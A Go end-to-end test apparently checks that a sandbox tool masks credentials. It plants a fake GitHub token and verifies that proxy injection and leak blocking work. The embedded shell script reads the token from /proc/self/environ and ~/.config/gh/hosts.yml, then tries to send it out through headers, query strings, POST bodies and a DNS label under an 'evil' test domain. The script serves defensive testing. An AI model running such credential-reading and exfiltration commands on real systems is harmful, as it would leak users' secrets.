package e2e

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/moat-dev/moat/e2e/testnet"
	"github.com/moat-dev/moat/resolver/dnstest"
	"github.com/moat-dev/moat/sandbox"
)

// The secret lives only in moat's own environment and in a host file.
const realToken = "ghp_R3alSecretValue0123456789abcdefABCD"

func TestCredentialsNeverEnterTheSandbox(t *testing.T) {
	if err := sandbox.Supported(); err != nil {
		t.Skipf("sandbox unsupported here: %v", err)
	}
	need(t, "curl")
	root := t.TempDir()
	home := filepath.Join(root, "home")
	project := filepath.Join(home, "project")
	ghDir := filepath.Join(home, ".config", "gh")
	for _, d := range []string{project, ghDir} {
		os.MkdirAll(d, 0o755)
	}
	hostsYML := filepath.Join(ghDir, "hosts.yml")
	os.WriteFile(hostsYML, []byte("github.com:\n    oauth_token: "+realToken+"\n    user: me\n"), 0o600)
	auditPath := filepath.Join(root, "audit.jsonl")

	n := testnet.New(t)
	n.AddAddr(n.Addr(3).String())
	_, _, caPEM := n.TLSServerOn(t, n.Addr(2).String()+":443", testnet.Handler(), "api.e2e.test")
	n.TLSServerOn(t, n.Addr(3).String()+":443", testnet.Handler(), "other.e2e.test")
	// A git host that accepts only the real token.
	n.AddAddr(n.Addr(4).String())
	gitRoot := t.TempDir()
	testnet.NewBareRepo(t, gitRoot, "myorg/myrepo.git")
	git := testnet.GitHandler(gitRoot)
	wantAuth := "Basic " + base64.StdEncoding.EncodeToString([]byte("x:"+realToken))
	n.TLSServerOn(t, n.Addr(4).String()+":443", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != wantAuth {
			w.Header().Set("WWW-Authenticate", `Basic realm="git"`)
			http.Error(w, "auth required", http.StatusUnauthorized)
			return
		}
		git.ServeHTTP(w, r)
	}), "git.e2e.test")
	dns := dnstest.New(t)
	dns.Set("api.e2e.test", []netip.Addr{n.Addr(2)}, time.Minute)
	dns.Set("other.e2e.test", []netip.Addr{n.Addr(3)}, time.Minute)
	dns.Set("git.e2e.test", []netip.Addr{n.Addr(4)}, time.Minute)
	settings := writeSettings(t, fmt.Sprintf(`
network:
  allowedDomains: ["api.e2e.test", "other.e2e.test", "git.e2e.test", "*.evil.e2e.test"]
  tlsTerminate:
    upstreamCaCertPaths: [%q]
credentials:
  envVars:
    - {name: GITHUB_TOKEN, mode: mask, injectHosts: [api.e2e.test, git.e2e.test]}
    - {name: OPENAI_API_KEY, mode: deny}
  files:
    - {path: %q, mode: mask, injectHosts: [api.e2e.test, git.e2e.test], extract: "oauth_token: (\\S+)"}
filesystem:
  allowWrite: [%q]
dns:
  servers: [%q]
audit:
  path: %q
`, caPEM, hostsYML, project, dns.Addr, auditPath))

	script := `
echo "env:$GITHUB_TOKEN"
echo "openai:${OPENAI_API_KEY:-unset}"
cat /proc/self/environ | tr '\0' '\n' | grep '^GITHUB_TOKEN='
echo "file:$(grep oauth_token ~/.config/gh/hosts.yml)"
curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" https://api.e2e.test/echo
echo
curl -sS "https://x:$GITHUB_TOKEN@api.e2e.test/echo"
echo
curl -sS -X POST -d "token=$GITHUB_TOKEN" https://api.e2e.test/echo
echo
for where in header query body; do
  case $where in
    header) curl -sS -D - -o /dev/null -H "X-Token: $GITHUB_TOKEN" https://other.e2e.test/echo ;;
    query)  curl -sS -D - -o /dev/null "https://other.e2e.test/echo?t=$GITHUB_TOKEN" ;;
    body)   curl -sS -D - -o /dev/null -X POST -d "t=$GITHUB_TOKEN" https://other.e2e.test/echo ;;
  esac | tr -d '\r' | grep -i '^x-proxy-error' | sed "s/^/leak-$where: /"
done
export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@e2e.test GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@e2e.test
git clone -q "https://x:$GITHUB_TOKEN@git.e2e.test/myorg/myrepo.git" r 2>&1 && echo "git clone with token ok"
(cd r && echo 1 > f && git add f && git commit -qm c && git push -q origin HEAD:refs/heads/from-sandbox 2>&1 && echo "git push with token ok")
curl -sS -D - -o /dev/null "https://$(echo $GITHUB_TOKEN | tr 'A-Z_' 'a-z-').evil.e2e.test/" 2>&1 | tr -d '\r' | grep -i -E 'x-proxy-error|403' | head -2 | sed 's/^/leak-label: /'
`
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, moatBin, "run", "--settings", settings, "-c", script)
	cmd.Dir = project
	cmd.Env = append(cleanEnv(), "HOME="+home, "GITHUB_TOKEN="+realToken, "OPENAI_API_KEY=sk-deniedvalue0123456789")
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	_ = cmd.Run()
	got := out.String()

	sentinel := ""
	for _, l := range strings.Split(got, "\n") {
		if v, ok := strings.CutPrefix(l, "env:"); ok {
			sentinel = v
		}
	}
	if len(sentinel) != len(realToken) || sentinel == realToken {
		t.Fatalf("GITHUB_TOKEN inside = %q, want a sentinel of the same length\n%s", sentinel, redact(got))
	}
	basic := base64.StdEncoding.EncodeToString([]byte("x:" + realToken))
	for _, want := range []string{
		"openai:unset",
		"GITHUB_TOKEN=" + sentinel,
		"file:    oauth_token: ",
		`"Authorization":["Bearer ` + realToken + `"]`,
		`"Content-Length":["45"]`,
		`"Authorization":["Basic ` + basic + `"]`,
		fmt.Sprintf(`"bodyBytes":%d`, len("token=")+len(realToken)),
		"leak-header: x-proxy-error: blocked-credential-leak",
		"leak-query: x-proxy-error: blocked-credential-leak",
		"leak-body: x-proxy-error: blocked-credential-leak",
		"leak-label: ",
		"git clone with token ok",
		"git push with token ok",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("missing %q in:\n%s", redact(want), redact(got))
		}
	}
	if strings.Contains(got, "file:    oauth_token: "+realToken) {
		t.Errorf("masked file shows the real token")
	}
	// Everything moat wrote and the sandbox could print holds no secret,
	// except the echo lines that prove the upstream got it.
	var echoFree []string
	for _, l := range strings.Split(got, "\n") {
		if !strings.Contains(l, `"Authorization"`) && !strings.Contains(l, `"bodyBytes"`) {
			echoFree = append(echoFree, l)
		}
	}
	if strings.Contains(strings.Join(echoFree, "\n"), realToken) {
		t.Errorf("real secret appears in the sandbox's or moat's output")
	}
	auditData, _ := os.ReadFile(auditPath)
	if bytes.Contains(auditData, []byte(realToken)) || bytes.Contains(auditData, []byte(sentinel)) {
		t.Errorf("audit log holds the secret or the sentinel")
	}
	if !bytes.Contains(auditData, []byte(`"credential":"GITHUB_TOKEN"`)) {
		t.Errorf("audit log names no credential:\n%s", auditData)
	}
	plan, _, _ := run(t, 20*time.Second, moatBin, "plan", "--settings", settings)
	if strings.Contains(plan, realToken) {
		t.Errorf("moat plan shows the secret")
	}
}

// redact keeps test output free of the secret.
func redact(s string) string { return strings.ReplaceAll(s, realToken, "<REAL>") }
